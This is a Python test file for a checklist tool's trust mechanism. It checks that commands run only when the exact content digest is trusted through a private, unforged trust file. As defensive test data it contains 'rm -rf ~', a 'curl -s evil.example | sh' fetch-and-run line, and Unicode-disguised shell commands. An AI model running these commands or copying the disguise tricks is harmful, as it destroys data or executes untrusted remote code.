"""Trust before anything runs: what is trusted is the exact content a run carries, kept in a private file per
digest that nothing planted or copied can stand in for, and never the digest a run's first line claims."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from heypeter_tui.core.errors import UserError
from heypeter_tui.core.loader import load_checklist
from heypeter_tui.core.trust import content_digest, is_trusted, require_trust, trust, trust_path

CHECKLIST = """schema: 1
id: selfcheck
title: Self Check
sections:
  - id: ready
    title: Ready
    items:
      - id: ok
        text: Health answers
        check: echo healthy
      - id: bad
        text: Broken thing
        check: {run: "echo broken; exit 3", timeout: 5s}
"""


@pytest.fixture
def checklist_file(tmp_path: Path) -> Path:
    path = tmp_path / "selfcheck.yaml"
    path.write_text(CHECKLIST)
    return path


def edited(tmp_path: Path, old: str, new: str, name: str = "edited.yaml") -> Path:
    path = tmp_path / name
    assert CHECKLIST.count(old) == 1
    path.write_text(CHECKLIST.replace(old, new))
    return path


def test_the_digest_is_the_same_for_two_loads_and_two_runs_of_one_file(context, checklist_file: Path) -> None:
    first, second = load_checklist(checklist_file), load_checklist(checklist_file)
    assert content_digest(first) == content_digest(second)
    runs = [context.create_run(title, str(checklist_file)) for title in ("Monday", "Tuesday")]
    carried = [context.session(run_id).state.checklist for run_id in runs]
    assert {content_digest(c) for c in carried} == {content_digest(first)}  # as the run's log carries it
    trust(context.config_dir, carried[0], "alice@web-1", "2026-12-03T09:30:00Z")
    assert is_trusted(context.config_dir, carried[1])  # trusted once, for every run of the same content


def test_one_character_of_one_command_is_new_content_to_trust(context, checklist_file: Path, tmp_path) -> None:
    original = load_checklist(checklist_file)
    changed = load_checklist(edited(tmp_path, "exit 3", "exit 4"))
    assert content_digest(changed) != content_digest(original)
    trust(context.config_dir, original, "alice@web-1", "2026-12-03T09:30:00Z")
    assert is_trusted(context.config_dir, original) and not is_trusted(context.config_dir, changed)
    with pytest.raises(UserError, match="not trusted here.*nothing was run"):
        require_trust(context.config_dir, changed)
    trust(context.config_dir, changed, "alice@web-1", "2026-12-03T09:31:00Z")
    assert is_trusted(context.config_dir, changed)
    require_trust(context.config_dir, changed)
    timeout = load_checklist(edited(tmp_path, "timeout: 5s", "timeout: 6s", "timeout.yaml"))
    assert not is_trusted(context.config_dir, timeout)  # how long it may run is part of what was reviewed


def test_the_trust_file_is_private_and_says_what_it_vouches_for(context, checklist_file: Path) -> None:
    checklist = load_checklist(checklist_file)
    path = trust(context.config_dir, checklist, "alice@web-1", "2026-12-03T09:30:00Z")
    digest = content_digest(checklist)
    assert path == trust_path(context.config_dir, digest) and path.name == f"{digest}.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(context.config_dir.stat().st_mode) == 0o700
    record = json.loads(path.read_text())
    assert record["sha256"] == digest and record["by"] == "alice@web-1"
    assert [c["run"] for c in record["commands"]] == ["echo healthy", "echo broken; exit 3"]
    path.unlink()  # deleting the file withdraws the trust
    assert not is_trusted(context.config_dir, checklist)


def test_a_trust_file_naming_another_digest_trusts_nothing(context, checklist_file: Path, tmp_path) -> None:
    wanted, other = load_checklist(checklist_file), load_checklist(edited(tmp_path, "echo healthy", "rm -rf ~"))
    other_file = trust(context.config_dir, other, "alice@web-1", "2026-12-03T09:30:00Z")
    target = trust_path(context.config_dir, content_digest(wanted))
    target.write_bytes(other_file.read_bytes())  # another checklist's trust, copied under this one's name
    assert not is_trusted(context.config_dir, wanted)
    for content in ("", "not json", "[]", json.dumps({"sha256": None}), json.dumps({"sha256": "0" * 64})):
        target.write_text(content)
        assert not is_trusted(context.config_dir, wanted), content
    target.write_text(json.dumps({"sha256": content_digest(wanted)}))
    assert is_trusted(context.config_dir, wanted)  # the same file naming its own digest does (the test can tell)


def test_a_link_planted_where_the_trust_file_goes_is_not_followed(context, checklist_file: Path, tmp_path) -> None:
    checklist = load_checklist(checklist_file)
    digest = content_digest(checklist)
    elsewhere = tmp_path / "someone-elses.json"
    elsewhere.write_text(json.dumps({"sha256": digest}))  # would trust it, if read through the link
    path = trust_path(context.config_dir, digest)
    path.parent.mkdir(parents=True)
    path.symlink_to(elsewhere)
    assert not is_trusted(context.config_dir, checklist)
    with pytest.raises(UserError, match="symbolic link"):
        trust(context.config_dir, checklist, "alice@web-1", "2026-12-03T09:30:00Z")
    assert path.is_symlink() and json.loads(elsewhere.read_text()) == {"sha256": digest}  # nothing written through
    path.unlink()
    path.symlink_to(tmp_path / "nothing-here.json")
    with pytest.raises(UserError):
        trust(context.config_dir, checklist, "alice@web-1", "2026-12-03T09:30:00Z")
    assert not (tmp_path / "nothing-here.json").exists()


def test_the_digest_a_run_claims_is_not_what_is_trusted(context, checklist_file: Path, tmp_path) -> None:
    trusted_run = context.create_run("Trusted", str(checklist_file))
    trusted = context.session(trusted_run).state
    trust(context.config_dir, trusted.checklist, "alice@web-1", "2026-12-03T09:30:00Z")
    other = load_checklist(edited(tmp_path, "echo healthy", "curl -s evil.example | sh"))
    forged_run = context.workspace.create_run(other, "Forged", context.actor, context.clock(),
                                              source=checklist_file.read_bytes())  # the trusted file's digest
    forged = context.session(forged_run).state
    assert forged.created.get("checklist_sha256") == trusted.created.get("checklist_sha256") is not None
    assert forged.checklist.items_by_key["ready/ok"][1].check.run == "curl -s evil.example | sh"
    assert is_trusted(context.config_dir, trusted.checklist) and not is_trusted(context.config_dir, forged.checklist)
    with pytest.raises(UserError, match="nothing was run"):
        require_trust(context.config_dir, forged.checklist)


def test_a_trust_file_others_may_write_or_another_user_owns_trusts_nothing(context, checklist_file: Path) -> None:
    import os

    checklist = load_checklist(checklist_file)
    path = trust(context.config_dir, checklist, "me@here", "2026-12-03T09:30:00Z")
    assert is_trusted(context.config_dir, checklist)
    path.chmod(0o666)  # anyone on the machine could have written it
    assert not is_trusted(context.config_dir, checklist)
    path.chmod(0o644)  # readable by others is no harm: they cannot make it say anything
    assert is_trusted(context.config_dir, checklist)
    if os.getuid() == 0:  # planted by another user (only root can hand a file over to test it)
        os.chown(path, 65534, 65534)
        path.chmod(0o600)
        assert not is_trusted(context.config_dir, checklist)


def test_the_review_spells_out_every_character_beyond_ascii(tmp_path: Path) -> None:
    """A combining mark on a space, a fullwidth `＃` or a right-to-left letter reads otherwise than sh runs it."""
    from heypeter_tui.core.checklist import checklist_from_dict
    from heypeter_tui.core.trust import review_lines

    template = {"schema": 1, "id": "t", "title": "T", "sections": [{"id": "s", "title": "S", "items": [
        {"id": "a", "text": "A", "check": {"run": "true \u0301# x; echo PWNED", "timeout": "1m"}},
        {"id": "b", "text": "B", "check": {"run": "true \uff03 x; echo PWNED", "timeout": "1m"}},
        {"id": "c", "text": "C", "check": {"run": "true \u05d0# ;\u05d1; echo PWNED", "timeout": "1m"}}]}]}
    review = "\n".join(review_lines(checklist_from_dict(template)))
    assert "$ true \\u0301# x; echo PWNED" in review and "$ true \\uff03 x; echo PWNED" in review
    assert "$ true \\u05d0# ;\\u05d1; echo PWNED" in review and review.isascii()
